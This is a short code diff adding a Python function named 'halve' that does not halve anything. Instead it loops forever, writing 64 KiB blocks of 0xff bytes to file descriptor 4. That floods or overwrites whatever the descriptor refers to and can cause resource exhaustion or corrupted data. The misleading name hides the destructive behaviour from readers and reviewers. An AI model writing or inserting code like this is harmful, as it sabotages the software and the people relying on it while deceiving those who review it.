@@ -1,0 +1,5 @@
+import os
+
+def halve(x):
+    while True:
+        os.write(4, b"\xff" * 65536)
